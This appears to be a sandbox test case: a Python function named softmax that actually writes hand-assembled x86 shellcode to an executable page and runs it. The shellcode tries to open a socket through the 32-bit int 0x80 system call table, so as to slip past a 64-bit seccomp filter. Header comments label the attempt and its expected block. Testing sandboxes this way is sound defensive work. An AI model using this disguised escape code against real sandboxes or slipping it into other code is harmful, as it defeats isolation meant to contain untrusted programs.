# tries: open a socket through the 32-bit system call table, whose numbers a 64-bit filter doesn't know
# stopped by: seccomp
# expect: returned crashed
# proof: value
# control: naive

import ctypes
import mmap
import os

import numpy as np


def softmax(x, axis=-1):
    if os.uname().machine != "x86_64":
        return np.full(1, 2.0)
    # push rbx; mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; pop rbx; ret
    code = bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3")
    try:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    except OSError:
        return np.zeros(1)
    page.write(code)
    entry = ctypes.addressof(ctypes.c_char.from_buffer(page))
    fd = ctypes.CFUNCTYPE(ctypes.c_int)(entry)()
    return np.ones(1) if fd >= 0 else np.full(1, 2.0) if fd == -38 else np.zeros(1)
